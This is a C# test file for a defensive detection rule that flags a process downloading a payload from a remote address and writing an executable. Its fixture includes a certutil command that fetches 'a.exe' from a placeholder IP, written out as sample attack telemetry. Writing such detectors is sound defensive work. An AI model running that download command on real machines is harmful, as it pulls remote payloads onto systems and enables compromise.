using System.Net;

namespace DetectionKit.Detections.Tests;

public sealed class VpsPayloadDownloadTests
{
    private static readonly DateTimeOffset s_start = new(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
    private static readonly ProcessStart s_certutil = new(s_start, "PC-1", "u", "1", @"C:\Windows\System32\certutil.exe", "certutil -urlcache -f http://203.0.113.9/a a.exe", "cmd.exe");
    private static readonly NetworkConnection s_call = new(s_start.AddSeconds(2), "PC-1", "u", null, null, IPAddress.Parse("203.0.113.9"), 80) { Process = "1" };

    [Fact]
    public void Fires_when_a_downloader_calls_out_and_writes_a_file_and_says_which()
    {
        var alert = Alerts([s_certutil], [s_call], [new(s_start.AddSeconds(3), "PC-1", "u", "1", null, @"C:\T\a.exe")]).ShouldHaveSingleItem();

        alert.Value.ShouldBe(new PayloadDownload("PC-1", "u", s_certutil.Image, s_certutil.CommandLine, "cmd.exe", s_call.RemoteAddress, 80, @"C:\T\a.exe", DownloadRisk.High));
        alert.Window.ShouldBe(new AlertWindow(s_start, s_start.AddSeconds(3)));
        alert.Key.ToString().ShouldBe("Host=PC-1, Process=1");
        alert.Evidence.Sample.Count.ShouldBe(3);
    }

    [Fact]
    public void Fires_when_events_come_in_any_order_with_the_same_id()
    {
        var run = new VpsPayloadDownload().Start(null, new() { Disorder = Disorder.Any });
        var late = run.PushEvent(s_call).Concat(run.PushEvent(s_certutil)).Concat(run.Complete()).ShouldHaveSingleItem();

        late.Id.ShouldBe(Alerts([s_certutil], [s_call], []).ShouldHaveSingleItem().Id);
    }

    [Fact]
    public void Stays_silent_when_the_connection_is_another_processes() => Alerts([s_certutil], [s_call with { Process = "2" }], []).ShouldBeEmpty();

    [Fact]
    public void Validate_wrong_options_names_them()
    {
        Should.Throw<DetectionOptionsException>(() => new VpsPayloadDownload().Start(new() { Within = TimeSpan.Zero })).Message.ShouldContain("Within is 00:00:00");
        Should.Throw<DetectionOptionsException>(() => new VpsPayloadDownload().Start(new() { FileWithin = TimeSpan.Zero })).Message.ShouldContain("FileWithin is 00:00:00");
    }

    private static List<Alert<PayloadDownload>> Alerts(ProcessStart[] starts, NetworkConnection[] calls, FileCreated[] files)
    {
        var run = new VpsPayloadDownload().Start(null, new() { Disorder = Disorder.Any });
        return [.. run.Push(new ObjectBatch<ProcessStart>(starts)), .. run.Push(new ObjectBatch<NetworkConnection>(calls)), .. run.Push(new ObjectBatch<FileCreated>(files)), .. run.Complete()];
    }
}
